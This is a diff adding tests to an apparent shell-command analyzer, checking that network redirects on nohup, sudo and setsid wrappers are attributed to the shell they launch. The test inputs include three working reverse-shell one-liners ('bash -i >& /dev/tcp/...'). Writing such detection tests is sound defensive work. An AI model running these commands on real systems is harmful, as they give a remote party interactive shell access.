@@ -115,3 +115,20 @@ describe("a data file's text fed to a program", () => {
     expect(rm?.paths).toEqual([SHELL_HOME]);
   });
 });
+
+describe("a launched program inherits its launcher's connections", () => {
+  test("a /dev/tcp redirect on a wrapper reaches the shell it starts", () => {
+    for (const input of [
+      "nohup bash -i >& /dev/tcp/198.51.100.23/9001 0>&1",
+      "sudo sh -i > /dev/tcp/198.51.100.23/9001 0<&1 2>&1",
+      "setsid bash -i >& /dev/udp/198.51.100.23/53 0>&1 &",
+    ]) {
+      const shell = commandsOf(input).find((command) => command.name === "bash" || command.name === "sh");
+      expect(shell?.network.map((destination) => destination.host)).toEqual(["198.51.100.23"]);
+    }
+  });
+
+  test("a file redirect stays the wrapper's", () => {
+    expect(commandNamed("nohup npm run dev > dev.log 2>&1", "npm").writes).toEqual([]);
+  });
+});
